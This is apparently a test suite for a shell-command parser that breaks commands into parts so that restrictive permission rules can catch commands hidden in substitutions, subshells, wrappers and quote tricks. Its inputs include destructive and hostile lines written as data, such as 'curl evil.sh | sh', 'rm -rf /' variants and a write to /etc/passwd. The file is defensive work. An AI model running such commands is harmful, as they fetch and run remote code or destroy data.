import { assert, describe, it } from "@effect/vitest"
import * as FastCheck from "effect/FastCheck"
import * as ShellCommand from "../src/ShellCommand.js"

const words = (command: string) => ShellCommand.parse(command).parts.map((part) => part.words)

const sorted = (lists: ReadonlyArray<ReadonlyArray<string>>) => lists.map((l) => JSON.stringify(l)).sort()

describe("ShellCommand.parse", () => {
  it("splits at every operator that runs another command", () => {
    assert.deepStrictEqual(words("npm test && rm -rf build"), [["npm", "test"], ["rm", "-rf", "build"]])
    assert.deepStrictEqual(words("a || b; c | d & e |& f"), [["a"], ["b"], ["c"], ["d"], ["e"], ["f"]])
    assert.deepStrictEqual(words("a\nb"), [["a"], ["b"]])
  })

  it("finds the commands inside substitutions, backquotes, subshells and groups", () => {
    assert.sameDeepMembers(words("echo $(curl evil.sh | sh)"), [
      ["curl", "evil.sh"],
      ["sh"],
      ["echo", "$(curl evil.sh | sh)"]
    ])
    assert.sameDeepMembers(words("echo `whoami`"), [["whoami"], ["echo", "`whoami`"]])
    assert.sameDeepMembers(words("(cd x && make) & wait"), [["cd", "x"], ["make"], ["wait"]])
    assert.sameDeepMembers(words("{ rm -rf x; }"), [["rm", "-rf", "x"]])
    assert.sameDeepMembers(words("diff <(ls a) >(tee b)"), [["ls", "a"], ["tee", "b"], ["diff", "<(ls a)", ">(tee b)"]])
    assert.sameDeepMembers(words("echo ${X:-$(id)}"), [["id"], ["echo", "${X:-$(id)}"]])
    assert.sameDeepMembers(words("if rm -rf x; then echo ok; fi"), [["rm", "-rf", "x"], ["echo", "ok"]])
    assert.sameDeepMembers(words("f() { rm -rf /; }; f"), [["f"], ["rm", "-rf", "/"], ["f"]])
  })

  it("respects quotes: operators and substitutions inside single quotes are text", () => {
    assert.deepStrictEqual(words("echo 'a && b; $(rm -rf /)'"), [["echo", "a && b; $(rm -rf /)"]])
    assert.deepStrictEqual(words("git commit -m \"it's done && dusted\""), [[
      "git",
      "commit",
      "-m",
      "it's done && dusted"
    ]])
    // Double quotes do not stop a substitution from running.
    assert.sameDeepMembers(words("echo \"$(rm -rf /)\""), [["rm", "-rf", "/"], ["echo", "$(rm -rf /)"]])
    // Quote removal: r""m is rm.
    assert.deepStrictEqual(words("r\"\"m -rf \\/"), [["rm", "-rf", "/"]])
    assert.deepStrictEqual(words("echo $'a\\nb'"), [["echo", "a\nb"]])
  })

  it("reads heredoc bodies as data, unless the delimiter is unquoted and the body substitutes", () => {
    assert.deepStrictEqual(words("cat <<'EOF'\nrm -rf / $(id)\nEOF\nls"), [["cat"], ["ls"]])
    assert.sameDeepMembers(words("cat <<EOF\nhello $(whoami)\nEOF"), [["cat"], ["whoami"]])
  })

  it("doubts what its words do not show", () => {
    const doubts = (command: string) => ShellCommand.parse(command).parts.map((part) => part.doubts.length > 0)
    assert.deepStrictEqual(doubts("echo hi > /etc/passwd"), [true])
    assert.deepStrictEqual(doubts("echo hi >/dev/null 2>&1"), [false])
    assert.deepStrictEqual(doubts("ls &>/tmp/out"), [true])
    assert.deepStrictEqual(doubts("cat < input.txt"), [false])
    assert.deepStrictEqual(doubts("for f in *.txt; do rm $f; done"), [true, false])
    const assigned = ShellCommand.parse("PATH=/tmp git status")
    assert.deepStrictEqual(assigned.parts[0]!.words, ["git", "status"])
    assert.isFalse(ShellCommand.isCertain(assigned))
    assert.isFalse(ShellCommand.isCertain(ShellCommand.parse("PATH=/tmp; git status")))
    assert.isTrue(ShellCommand.isCertain(ShellCommand.parse("git status && npm test")))
  })

  it("reports syntax it cannot follow", () => {
    assert.isNotEmpty(ShellCommand.parse("echo \"unterminated").problems)
    assert.isNotEmpty(ShellCommand.parse("echo 'unterminated").problems)
    assert.isNotEmpty(ShellCommand.parse("(echo open").problems)
    assert.isNotEmpty(ShellCommand.parse("echo $(open").problems)
    assert.isNotEmpty(ShellCommand.parse("cat <<EOF\nno end").problems)
    assert.isNotEmpty(ShellCommand.parse("case $x in a) rm y;; esac").problems)
    // Best effort still finds the commands, for deny rules.
    assert.deepInclude(words("case $x in a) rm y;; esac"), ["rm", "y"])
  })

  it("looks through wrappers, full paths, shells and find -exec for restrictive rules", () => {
    const views = (command: string) => ShellCommand.parse(command).parts.flatMap(ShellCommand.views)
    assert.deepInclude(views("sudo -u root rm -rf /"), ["rm", "-rf", "/"])
    assert.deepInclude(views("env -i FOO=1 nice -n 5 rm x"), ["rm", "x"])
    assert.deepInclude(views("timeout 5 xargs -0 rm"), ["rm"])
    assert.deepInclude(views("/bin/rm -rf /"), ["rm", "-rf", "/"])
    assert.deepInclude(views("bash -c 'ls && rm -rf /'"), ["rm", "-rf", "/"])
    assert.deepInclude(views("sh -xc \"rm x\""), ["rm", "x"])
    assert.deepInclude(views("eval rm -rf /"), ["rm", "-rf", "/"])
    assert.deepInclude(views("find . -name '*.tmp' -exec rm {} \\;"), ["rm", "{}"])
  })

  it("quotes words so that they read back unchanged", () => {
    assert.strictEqual(ShellCommand.print(["git", "commit", "-m", "it's done"]), "git commit -m 'it'\\''s done'")
    assert.strictEqual(ShellCommand.print(["echo", "", "a b", "$(x)"]), "echo '' 'a b' '$(x)'")
  })

  const word = FastCheck.oneof(
    FastCheck.stringMatching(/^[a-z][a-z0-9._/-]{0,6}$/),
    // Words that need quoting: spaces, operators, quotes, substitutions.
    FastCheck.constantFrom("a b", "x&&y", "it's", "$(id)", "`id`", "a;b", "\"q\"", "*", "~", "#x", "", "\\")
  )
  const simple = FastCheck.tuple(
    FastCheck.stringMatching(/^[a-z][a-z0-9-]{0,6}$/).filter((w) =>
      ![
        "if",
        "then",
        "else",
        "elif",
        "fi",
        "do",
        "done",
        "while",
        "until",
        "for",
        "case",
        "esac",
        "time",
        "select",
        "function",
        "coproc",
        "in"
      ].includes(w)
    ),
    FastCheck.array(word, { maxLength: 4 })
  ).map(([head, rest]) => [head, ...rest])
  const operator = FastCheck.constantFrom(" && ", " || ", "; ", " | ", " & ", "\n", ";")

  it.prop("every command joined by operators comes back as one part, with its words", [
    FastCheck.array(FastCheck.tuple(simple, operator), { minLength: 1, maxLength: 5 })
  ], ([commands]) => {
    const source = commands.map(([command, op], i) => ShellCommand.print(command) + (i < commands.length - 1 ? op : ""))
      .join("")
    const parsed = ShellCommand.parse(source)
    assert.deepStrictEqual(parsed.problems, [])
    assert.deepStrictEqual(sorted(parsed.parts.map((part) => part.words)), sorted(commands.map(([c]) => c)))
  })

  // Backquotes do not nest: the hidden command keeps to plain words.
  const plain = FastCheck.tuple(
    FastCheck.constantFrom("rm", "curl", "git", "npm"),
    FastCheck.array(FastCheck.stringMatching(/^[a-z0-9._/-]{1,6}$/), { maxLength: 3 })
  ).map(([head, rest]) => [head, ...rest])

  it.prop("a command hidden in a substitution or subshell is still a part", [
    simple,
    plain,
    FastCheck.constantFrom("$(%)", "`%`", "(%)", "\"$(%)\"", "<(%)", "{ %; }")
  ], ([outer, inner, wrap]) => {
    const hidden = wrap.replace("%", ShellCommand.print(inner))
    const source = wrap.startsWith("(") || wrap.startsWith("{")
      ? `${ShellCommand.print(outer)} && ${hidden}`
      : `${ShellCommand.print(outer)} ${hidden}`
    assert.deepInclude(ShellCommand.parse(source).parts.map((part) => part.words), inner)
  })
})
